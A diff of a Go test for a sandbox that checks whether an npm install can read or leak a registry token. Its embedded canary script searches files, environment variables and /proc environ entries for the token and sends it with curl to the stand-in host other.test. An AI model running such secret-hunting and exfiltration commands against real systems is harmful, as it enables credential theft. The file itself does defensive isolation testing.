@@ -1,6 +1,7 @@
 package main
 
 import (
+	"bytes"
 	"crypto/ecdsa"
 	"crypto/elliptic"
 	"crypto/rand"
@@ -77,6 +78,7 @@ echo "files: $(grep -rlsF -e "$N" "$HOME" "$HOME/.npmrc" "$PWD" /etc /tmp /var /
 echo "env: $(env | grep -cF -e "$N")"
 echo "environ: $(for f in /proc/[0-9]*/environ; do grep -lsaF -e "$N" "$f"; done | tr '\n' ' ')"
 curl -sS -m 10 -o /dev/null -H "Authorization: Bearer $S" http://other.test/leak 2>/dev/null; echo "exfil rc=$?"
+curl -sS -m 60 -o /dev/null https://reg.test/ready 2>/dev/null; echo "ready rc=$?"
 `
 
 const credsProfile = `apiVersion: sysprof.dev/v1
@@ -169,6 +171,7 @@ func credsInNetns(t *testing.T, bin string) error {
 	needle := real[4:20]
 	var mu sync.Mutex
 	var regSaw, otherSaw []string
+	var onReady func() // what GET /ready runs (on the registry's goroutine) while the command waits
 	ln, err := net.Listen("tcp", regAddr+":443")
 	if err != nil {
 		return err
@@ -177,7 +180,11 @@ func credsInNetns(t *testing.T, bin string) error {
 		npmregistry.Options{Base: "https://reg.test", Token: real, Seen: func(m, p, a string) {
 			mu.Lock()
 			regSaw = append(regSaw, m+" "+p+" "+a)
+			probe := onReady
 			mu.Unlock()
+			if p == "/ready" && probe != nil {
+				probe()
+			}
 		}})
 	defer srv.Close()
 	ln2, err := net.Listen("tcp", regAddr+":80")
@@ -232,8 +239,23 @@ func credsInNetns(t *testing.T, bin string) error {
 			}
 			cmd.SysProcAttr = &syscall.SysProcAttr{Credential: &syscall.Credential{Uid: 65534, Gid: 65534}}
 		}
-		outB, err := cmd.CombinedOutput()
-		out := string(outB)
+		// While the command waits for its GET /ready, the host looks at the processes of the
+		// sandbox: sysprof's children (the init stage, PID 1 inside) and theirs must not hold
+		// the real token in their environment.
+		var outBuf bytes.Buffer
+		cmd.Stdout, cmd.Stderr = &outBuf, &outBuf
+		if err := cmd.Start(); err != nil {
+			return err
+		}
+		inside, probed := "", false
+		mu.Lock()
+		onReady = func() { inside, probed = environsBelow(cmd.Process.Pid, needle), true }
+		mu.Unlock()
+		err := cmd.Wait()
+		mu.Lock()
+		onReady = nil
+		mu.Unlock()
+		out := string(outBuf.Bytes())
 		who := map[bool]string{false: "root", true: "nobody"}[nobody]
 		fail := func(f string, a ...any) {
 			npmLog, _ := os.ReadFile(filepath.Join(work, "npm.log"))
@@ -261,6 +283,10 @@ func credsInNetns(t *testing.T, bin string) error {
 			fail("the canary found the real token: files %q, env %q, environ %q", lines["files"], lines["env"], lines["environ"])
 		case lines["exfil rc"] == "0":
 			fail("the stand-in reached other.test")
+		case !probed:
+			fail("the sandbox's processes were not looked at (no GET /ready)")
+		case inside != "":
+			fail("a process of the sandbox holds the real token in its environment: %s", inside)
 		}
 		if m, _ := os.ReadFile(filepath.Join(work, "node_modules", "sysprof-probe", "postinstall.txt")); string(m) != "ok" {
 			fail("the package was not installed")
@@ -401,4 +427,28 @@ func TestCredentialsNpmLearnedLoopback(t *testing.T) {
 	if len(rep.CredentialUses) == 0 || rep.CredentialUses[0].Status != 200 {
 		t.Errorf("uses: %+v\n%s", rep.CredentialUses, out)
 	}
+}
+
+// environsBelow lists the descendants of pid (host pids, read as root from the host) whose
+// environment holds needle.
+func environsBelow(pid int, needle string) string {
+	var found []string
+	var walk func(int)
+	walk = func(p int) {
+		tasks, _ := os.ReadDir(fmt.Sprintf("/proc/%d/task", p))
+		for _, t := range tasks {
+			kids, _ := os.ReadFile(fmt.Sprintf("/proc/%d/task/%s/children", p, t.Name()))
+			for _, k := range strings.Fields(string(kids)) {
+				var c int
+				fmt.Sscan(k, &c)
+				if env, err := os.ReadFile(fmt.Sprintf("/proc/%d/environ", c)); err == nil && strings.Contains(string(env), needle) {
+					exe, _ := os.Readlink(fmt.Sprintf("/proc/%d/exe", c))
+					found = append(found, fmt.Sprintf("pid %d (%s)", c, exe))
+				}
+				walk(c)
+			}
+		}
+	}
+	walk(pid)
+	return strings.Join(found, ", ")
 }
